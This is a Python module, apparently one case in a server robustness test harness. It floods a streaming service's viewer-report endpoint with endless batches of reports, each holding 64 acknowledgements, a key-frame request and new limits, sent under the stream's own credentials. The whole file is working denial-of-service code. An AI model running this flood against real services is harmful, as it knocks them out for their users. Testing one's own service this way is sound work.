"""A viewer over WatchDisplay that reports without end: 64 acknowledgements, a key frame, new limits."""

import wire
from target import Cut

WAYS = ("plain",)
ROLE = "viewer"
FLOOR = {"reports": 200}
AT_A_TIME = 100


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    viewer_id = start_watching(target, connection)
    # Those with the ticket belong to its session, which is the stream's.
    extra = target.credentials() + [("planecast-viewer-id", viewer_id)]
    report = (wire.bytes_field(1, viewer_id) +
              wire.bytes_field(2, wire.number_field(1, 0)) * 64 + wire.number_field(3, 1) +
              wire.bytes_field(4, wire.number_field(2, 30)))
    under_way = 0
    while True:
        while under_way < AT_A_TIME and connection.window > len(report) + 5:
            connection.open_call(wire.REPORT_VIEWER, report, True, extra)
            under_way += 1
            connection.count("reports")
        connection.flush()
        connection.wait(0.01)
        for stream, what, value in connection.events():
            if what != "end":
                continue
            if stream == 1:
                raise Cut(connection.served)
            under_way -= 1
            connection.count("answered" if value == "0" else f"ended with {value}")


def start_watching(target, connection):
    connection.open_call(wire.WATCH_DISPLAY,
                         wire.named(target.display) + wire.number_field(3, 1), True,
                         target.credentials())
    while True:
        connection.flush()
        connection.wait()
        for _, what, value in connection.events():
            if what == "end":
                raise Cut(connection.served)
            started = wire.fields(wire.fields(value).get(1, b"")).get(1)
            if started:
                return wire.fields(started)[1].decode()
